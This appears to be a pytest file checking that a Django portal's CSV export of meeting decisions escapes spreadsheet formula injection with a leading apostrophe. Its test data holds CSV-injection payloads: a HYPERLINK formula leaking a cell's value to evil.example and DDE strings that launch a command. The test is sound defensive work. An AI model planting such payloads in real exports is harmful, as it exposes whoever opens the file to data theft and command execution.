"""No cell of a CSV the project writes is a live spreadsheet formula (OWASP, "CSV
Injection"): a decision whose text begins with =, +, -, @, a tab or a carriage return is
exported with a leading apostrophe, and reads as the same words."""

from __future__ import annotations

import csv
import io

import pytest

from persian.spreadsheet import safe_cell

pytestmark = pytest.mark.django_db

PLANTED = [
    '=HYPERLINK("http://evil.example/?"&A1,"جزئیات")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_formula_cells_in_the_decisions_csv_are_neutralised(portal, client):
    portal.publish(
        portal.meeting(portal.workgroup, title="=جلسه", days_ago=5),
        decisions=[{"text": text} for text in PLANTED],
    )
    raw = client.get("/decisions/export.csv").getvalue().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw)))
    headers, rows = rows[0], rows[1:]
    texts = sorted(row[headers.index("شرح مصوبه")] for row in rows)
    assert texts == sorted("'" + text for text in PLANTED)
    assert {row[headers.index("جلسه")] for row in rows} == {"'=جلسه"}
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("مصوبه = تصمیم", "مصوبه = تصمیم"),
        ("۱۴۰۵/۰۹/۱۰", "۱۴۰۵/۰۹/۱۰"),
        ("", ""),
        (None, ""),
        (12, "12"),
        ("\r=x", "'\r=x"),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written
